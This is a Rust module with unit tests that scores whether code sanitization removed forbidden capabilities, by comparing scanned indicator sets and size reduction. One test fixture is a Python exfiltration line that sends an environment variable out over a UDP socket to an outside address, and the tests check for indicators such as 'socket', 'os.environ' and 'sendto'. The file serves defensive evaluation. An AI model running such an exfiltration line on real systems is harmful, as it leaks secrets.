//! Defense evaluation — did sanitization strip the forbidden capability?
//!
//! Compares indicator sets across an (original, sanitized) pair and
//! reports the size delta. Functional correctness of the sanitized code
//! is deliberately not judged here; that is the utility-gap evaluator's
//! job, driven by an external scoring function.

use serde::{Deserialize, Serialize};

use crate::sample::CodeSample;
use crate::scanner::{IndicatorSet, IndicatorTable};

/// Outcome of one defense evaluation. Immutable once computed;
/// re-evaluating the same pair yields an identical result.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DefenseResult {
    pub original_indicators: IndicatorSet,
    pub sanitized_indicators: IndicatorSet,
    /// True iff the original carried at least one indicator and the
    /// sanitized text carries none. A pair that was clean to begin with
    /// proves nothing and reports false.
    pub success: bool,
    pub original_size_chars: usize,
    pub sanitized_size_chars: usize,
    /// `1 - sanitized/original`, in characters. `None` when the original
    /// is empty, where the ratio is undefined.
    pub reduction_ratio: Option<f64>,
}

impl DefenseResult {
    /// Assembles a result from already-computed scans, for pipelines that
    /// scan the two sides at different stages.
    pub fn from_scans(
        original_indicators: IndicatorSet,
        sanitized_indicators: IndicatorSet,
        original_size_chars: usize,
        sanitized_size_chars: usize,
    ) -> Self {
        let success = !original_indicators.is_empty() && sanitized_indicators.is_empty();
        let reduction_ratio = if original_size_chars == 0 {
            None
        } else {
            Some(1.0 - sanitized_size_chars as f64 / original_size_chars as f64)
        };
        Self {
            original_indicators,
            sanitized_indicators,
            success,
            original_size_chars,
            sanitized_size_chars,
            reduction_ratio,
        }
    }
}

/// Pattern-based defense evaluator over a shared indicator table.
pub struct DefenseEvaluator {
    table: IndicatorTable,
}

impl DefenseEvaluator {
    pub fn new(table: IndicatorTable) -> Self {
        Self { table }
    }

    pub fn table(&self) -> &IndicatorTable {
        &self.table
    }

    /// Scans one side of a pair.
    pub fn scan(&self, text: &str) -> IndicatorSet {
        self.table.scan(text)
    }

    /// Scans both sides and computes the defense result.
    pub fn evaluate(&self, original: &CodeSample, sanitized: &CodeSample) -> DefenseResult {
        DefenseResult::from_scans(
            self.table.scan(&original.text),
            self.table.scan(&sanitized.text),
            original.len_chars(),
            sanitized.len_chars(),
        )
    }
}

impl Default for DefenseEvaluator {
    fn default() -> Self {
        Self::new(IndicatorTable::with_defaults())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const EXFIL_SAMPLE: &str =
        "import socket\nimport os\nsocket.socket().sendto(os.environ['K'].encode(), ('8.8.8.8',53))";
    const CLEAN_SAMPLE: &str = "def fib(n):\n a,b=0,1\n return a";

    fn pair(original: &str, sanitized: &str) -> (CodeSample, CodeSample) {
        (
            CodeSample::original(1, original),
            CodeSample::sanitized(1, sanitized),
        )
    }

    #[test]
    fn test_sanitized_exfil_is_success() {
        let evaluator = DefenseEvaluator::default();
        let (original, sanitized) = pair(EXFIL_SAMPLE, CLEAN_SAMPLE);
        let result = evaluator.evaluate(&original, &sanitized);

        assert!(result.original_indicators.contains("socket"));
        assert!(result.original_indicators.contains("os.environ"));
        assert!(result.original_indicators.contains("sendto"));
        assert!(result.sanitized_indicators.is_empty());
        assert!(result.success);
        assert!(result.reduction_ratio.unwrap() > 0.0);
    }

    #[test]
    fn test_identical_pair_is_not_success() {
        let evaluator = DefenseEvaluator::default();
        let (original, sanitized) = pair(EXFIL_SAMPLE, EXFIL_SAMPLE);
        let result = evaluator.evaluate(&original, &sanitized);

        assert_eq!(result.original_indicators, result.sanitized_indicators);
        assert!(!result.success);
        assert_eq!(result.reduction_ratio, Some(0.0));
    }

    #[test]
    fn test_clean_original_never_succeeds() {
        let evaluator = DefenseEvaluator::default();
        let (original, sanitized) = pair(CLEAN_SAMPLE, "x = 1");
        let result = evaluator.evaluate(&original, &sanitized);
        assert!(result.original_indicators.is_empty());
        assert!(!result.success);
    }

    #[test]
    fn test_retained_indicator_fails() {
        let evaluator = DefenseEvaluator::default();
        let (original, sanitized) = pair(EXFIL_SAMPLE, "import socket\ndef fib(n): return n");
        let result = evaluator.evaluate(&original, &sanitized);
        assert!(result.sanitized_indicators.contains("socket"));
        assert!(!result.success);
    }

    #[test]
    fn test_both_empty_is_not_success() {
        let result = DefenseResult::from_scans(IndicatorSet::new(), IndicatorSet::new(), 10, 5);
        assert!(!result.success);
    }

    #[test]
    fn test_empty_original_ratio_undefined() {
        let (original, sanitized) = pair("", "x = 1");
        let result = DefenseEvaluator::default().evaluate(&original, &sanitized);
        assert_eq!(result.reduction_ratio, None);
        assert!(!result.success);
    }

    #[test]
    fn test_growth_reports_negative_ratio() {
        let result = DefenseResult::from_scans(IndicatorSet::new(), IndicatorSet::new(), 10, 20);
        assert_eq!(result.reduction_ratio, Some(-1.0));
    }

    #[test]
    fn test_evaluate_is_idempotent() {
        let evaluator = DefenseEvaluator::default();
        let (original, sanitized) = pair(EXFIL_SAMPLE, CLEAN_SAMPLE);
        let first = evaluator.evaluate(&original, &sanitized);
        for _ in 0..3 {
            assert_eq!(evaluator.evaluate(&original, &sanitized), first);
        }
    }

    #[test]
    fn test_result_serde_roundtrip() {
        let evaluator = DefenseEvaluator::default();
        let (original, sanitized) = pair(EXFIL_SAMPLE, CLEAN_SAMPLE);
        let result = evaluator.evaluate(&original, &sanitized);
        let json = serde_json::to_string(&result).unwrap();
        let parsed: DefenseResult = serde_json::from_str(&json).unwrap();
        assert_eq!(parsed, result);
    }
}
